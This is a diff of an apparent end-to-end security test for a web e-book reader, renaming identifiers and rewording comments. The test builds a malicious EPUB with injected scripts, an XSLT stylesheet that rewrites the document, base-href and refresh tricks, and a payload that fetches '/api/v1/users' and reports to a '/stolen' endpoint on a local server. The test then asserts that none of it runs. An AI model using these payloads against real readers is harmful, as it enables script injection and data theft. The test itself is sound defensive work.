@@ -1,18 +1,24 @@
-/** Books whose makers mean harm: nothing in them runs, reaches the server, or tells anybody anything. */
+/** Malicious e-books: nothing in them runs, reaches the server or reveals anything. */
 import { afterAll, beforeAll, expect, test } from 'bun:test'
 import type { Page } from 'playwright-core'
-import { until } from './harness'
-import { untilQuiet } from './quiet'
-import { askBook, bookFrame, openTextRoom, type TextRoom, untilVisible } from './text-room'
-import type { tinyEpub } from './tiny-epub'
+import { waitUntil } from './harness'
+import { waitUntilQuiet } from './quiet'
+import {
+  evaluateInBook,
+  bookFrame,
+  openTextShelf,
+  type TextShelf,
+  waitUntilVisible,
+} from './text-shelf'
+import type { makeTinyEpub } from './tiny-epub'
 
-const patience = 60_000
-let room: TextRoom
+const timeoutMs = 60_000
+let shelf: TextShelf
 let evil: ReturnType<typeof Bun.serve>
 const leaks: string[] = []
 
 beforeAll(async () => {
-  // Whatever a hostile book manages to send arrives here.
+  // Every request of a malicious book arrives here.
   evil = Bun.serve({
     port: 0,
     hostname: '127.0.0.1',
@@ -21,16 +27,16 @@ beforeAll(async () => {
       return new Response('')
     },
   })
-  room = await openTextRoom([hostileBook(evil.url.origin)])
+  shelf = await openTextShelf([hostileBook(evil.url.origin)])
 }, 120_000)
 
 afterAll(async () => {
-  await room?.close()
+  await shelf?.close()
   await evil?.stop(true)
 })
 
-/** Each vector tells the server at `origin` where it comes from, or marks the window. */
-function hostileBook(origin: string): Parameters<typeof tinyEpub>[0] {
+/** Each vector reports itself to the server at `origin` or sets a mark on the window. */
+function hostileBook(origin: string): Parameters<typeof makeTinyEpub>[0] {
   const mark = `top.hacked = true; parent.hacked = true; new Image().src = '${origin}/script'; fetch('/api/v1/users').then((answer) => fetch('${origin}/stolen'))`
   const html = `
     <p>Chapter 1, paragraph 1. Nothing to see here.</p>
@@ -69,32 +75,32 @@ function hostileBook(origin: string): Parameters<typeof tinyEpub>[0] {
     { title: 'One', html, head: `<base href="${origin}/base/" target="_top"/>` },
     { title: 'Two', html: refresh },
     { title: 'Three', html: unclosed },
-    { title: 'Four', html: '<p>Chapter 4.</p>', prologue: sheets(origin) },
+    { title: 'Four', html: '<p>Chapter 4.</p>', prologue: buildStylesheets(origin) },
     { title: 'Five', html: '<p>Chapter 5. The last.</p>' },
   ]
-  const files = { 'OEBPS/evil.js': mark, 'OEBPS/evil.xsl': transformation(mark) }
+  const files = { 'OEBPS/evil.js': mark, 'OEBPS/evil.xsl': buildTransformation(mark) }
   return { title: 'Hostile', chapters, files }
 }
 
-/** Sheets that would rewrite the whole document. */
-const sheets = (origin: string) =>
+/** XSLT stylesheets that would rewrite the whole document. */
+const buildStylesheets = (origin: string) =>
   `<?xml-stylesheet type="text/xsl" href="evil.xsl"?><?xml-stylesheet type="text/xsl" href="${origin}/sheet.xsl"?><?xml-stylesheet type="text/css" href="${origin}/sheet.css"?>`
 
-const transformation = (script: string) =>
+const buildTransformation = (script: string) =>
   `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head><body><p>Rewritten.</p><script>${script}</script></body></html></xsl:template></xsl:stylesheet>`
 
 const isHacked = (page: Page) => page.evaluate(() => 'hacked' in window)
 
 test(
-  'a hostile e-book runs nothing, reaches nothing, and sends nothing',
+  'a malicious e-book runs nothing, reaches nothing and sends nothing',
   async () => {
-    const seen = await room.signedIn({ mayBreakRules: true })
+    const seen = await shelf.signedIn({ mayBreakRules: true })
     const { page } = seen
-    // What the policy stops is asked for all the same; only what is answered has left the browser.
+    // Blocked requests appear, too; only a response proves that a request left the browser.
     const answered: string[] = []
     page.on('response', (answer) => void answered.push(new URL(answer.url()).pathname))
-    await room.open(seen, 'Hostile')
-    await untilVisible(page, 'Chapter 1, paragraph 1')
+    await shelf.open(seen, 'Hostile')
+    await waitUntilVisible(page, 'Chapter 1, paragraph 1')
     const frame = bookFrame(page)!
     await frame.evaluate(() => {
       for (const form of document.querySelectorAll('form')) form.submit()
@@ -109,23 +115,23 @@ test(
     await page.getByRole('button', { name: 'Contents' }).click()
     for (const [title, words] of chapters) {
       await page.getByRole('button', { name: title }).click()
-      await until(async () => {
-        const text = await askBook(page, () => document.body.textContent)
+      await waitUntil(async () => {
+        const text = await evaluateInBook(page, () => document.body.textContent)
         return text?.includes(words) === true
       }, `${words} is there`)
-      await untilQuiet(seen)
+      await waitUntilQuiet(seen)
     }
     expect(await isHacked(page)).toBe(false)
-    expect(page.url()).toContain(`/read/${room.idOf('Hostile')}`)
+    expect(page.url()).toContain(`/read/${shelf.idOf('Hostile')}`)
     expect(leaks).toEqual([])
     expect(answered.filter((path) => path.startsWith('/api/v1/users'))).toEqual([])
     expect(answered.filter((path) => /evil\.(js|xsl)$/.test(path))).toEqual([])
     await seen.context.close()
   },
-  patience,
+  timeoutMs,
 )
 
-/** The last one is there for the time that the others would need. */
+/** The last chapter gives the others time to act. */
 const chapters = [
   ['Two', 'Chapter 2.'],
   ['Three', 'Chapter 3.'],
